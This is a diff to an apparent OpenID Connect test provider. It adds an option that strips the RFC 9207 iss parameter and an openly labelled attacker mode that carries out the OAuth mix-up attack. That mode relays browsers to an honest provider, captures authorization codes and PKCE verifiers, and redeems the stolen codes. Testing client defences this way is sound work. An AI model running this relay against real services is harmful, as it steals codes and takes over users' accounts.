@@ -55,10 +55,28 @@
 //   introspection    the RFC 7662 endpoint /token/introspection (default true).
 //   scopes           more scope values to accept (the resources' scopes, openid,
 //                    offline_access, profile and email are always accepted).
+//   issParameter     false: a provider from before RFC 9207: its metadata says
+//                    authorization_response_iss_parameter_supported: false and its
+//                    authorization responses carry no iss (default true).
+//   mixUp            ATTACKER MODE (the OAuth mix-up, RFC 9207 §1): this provider plays a
+//                    malicious one that a client is also registered with. An object:
+//                      authorizationEndpoint, tokenEndpoint: the honest provider's;
+//                      clientId: the client's id at the honest provider;
+//                      redirectUris: {"received": "sent instead"} (a redirect_uri not listed
+//                        is passed on as received);
+//                      params: more parameters to set on the honest request (scope, resource).
+//                    GET /auth sends the browser straight on to the honest authorization
+//                    endpoint with every parameter it received (state, code_challenge...),
+//                    client_id replaced. POST /token records what arrived and redeems it at
+//                    the honest token endpoint as that client (public: no secret), answering
+//                    with whatever the honest provider answered. GET /mixup/received: the
+//                    records, [{"code", "code_verifier", "redirect_uri", "redeemed": HTTP
+//                    status}] as JSON. Nothing else of oidc-provider is reachable at /auth or
+//                    /token; discovery, keys and the rest are as usual.
 //
 // What is fixed: PKCE with S256 on every authorization request (plain is not offered);
 // authorization code only (response_type code); the authorization response carries iss
-// (RFC 9207); a token request naming no resource gets a token for the resource the
+// (RFC 9207) unless issParameter is false; a token request naming no resource gets a token for the resource the
 // authorization was for (so with a default resource every access token is a JWT for a
 // resource, and the userinfo endpoint, which wants one of its own, refuses them: read the
 // claims from the ID token); the ID token carries the requested profile/email claims itself;
@@ -304,13 +322,84 @@ function main() {
         ctx.path = '/.well-known/openid-configuration';
       }
       const interaction = /^\/interaction\/([^/]+)(?:\/(login|consent|abort))?$/.exec(ctx.path);
-      if (interaction) {
+      if (config.mixUp && await mixUp(ctx, config.mixUp)) {
+        // the attacker answered
+      } else if (interaction) {
         await interact(ctx, interaction[1], interaction[2]);
       } else {
         await next();
+        if (config.issParameter === false) withoutIss(ctx);
       }
       log(`${name}: ${ctx.method} ${ctx.originalUrl.split("?")[0]} ${ctx.respond === false ? ctx.res.statusCode : ctx.status} ${Date.now() - started}ms`);
     });
+
+    // issParameter false: no iss in the metadata's promise or in an authorization response
+    // (a redirect back to a client, from /auth or from its resumption after the pages).
+    function withoutIss(ctx) {
+      if (ctx.path === '/.well-known/openid-configuration' && ctx.body) {
+        ctx.body.authorization_response_iss_parameter_supported = false;
+      }
+      const location = ctx.response.get('location');
+      if (location && HTTP_URL.test(location)) {
+        const url = new URL(location);
+        if (url.searchParams.has('iss') && url.searchParams.has('state')) {
+          url.searchParams.delete('iss');
+          ctx.set('location', url.href);
+        }
+      }
+    }
+
+    // The attacker of the mix-up (see mixUp above): true when it answered the request.
+    const mixUpReceived = [];
+    async function mixUp(ctx, honest) {
+      if (ctx.method === 'GET' && ctx.path === '/mixup/received') {
+        ctx.body = mixUpReceived;
+        return true;
+      }
+      if (ctx.method === 'GET' && ctx.path === '/auth') {
+        const to = new URL(honest.authorizationEndpoint);
+        for (const [key, value] of Object.entries(ctx.query)) to.searchParams.set(key, value);
+        to.searchParams.set('client_id', honest.clientId);
+        const received = ctx.query.redirect_uri;
+        const mapped = honest.redirectUris?.[received];
+        if (mapped) to.searchParams.set('redirect_uri', mapped);
+        for (const [key, value] of Object.entries(honest.params ?? {})) {
+          to.searchParams.set(key, value);
+        }
+        log(`${name}: mix-up: sent the browser on to ${to.origin} as ${honest.clientId}`);
+        ctx.redirect(to.href);
+        return true;
+      }
+      if (ctx.method === 'POST' && ctx.path === '/token') {
+        const form = await readForm(ctx);
+        const record = {
+          code: form.code ?? null,
+          code_verifier: form.code_verifier ?? null,
+          redirect_uri: form.redirect_uri ?? null,
+          redeemed: null,
+        };
+        mixUpReceived.push(record);
+        const body = new URLSearchParams({
+          grant_type: 'authorization_code',
+          code: String(form.code ?? ''),
+          code_verifier: String(form.code_verifier ?? ''),
+          redirect_uri: String(form.redirect_uri ?? ''),
+          client_id: honest.clientId,
+        });
+        if (form.resource) body.set('resource', String(form.resource));
+        for (const [key, value] of Object.entries(honest.params ?? {})) {
+          if (key === 'resource') body.set(key, value);
+        }
+        const answer = await fetch(honest.tokenEndpoint, { method: 'POST', body });
+        record.redeemed = answer.status;
+        log(`${name}: mix-up: redeemed a stolen code at ${honest.tokenEndpoint}: ${answer.status}`);
+        ctx.status = answer.status;
+        ctx.type = 'application/json';
+        ctx.body = await answer.text();
+        return true;
+      }
+      return false;
+    }
 
     async function interact(ctx, uid, step) {
       ctx.set('cache-control', 'no-store');
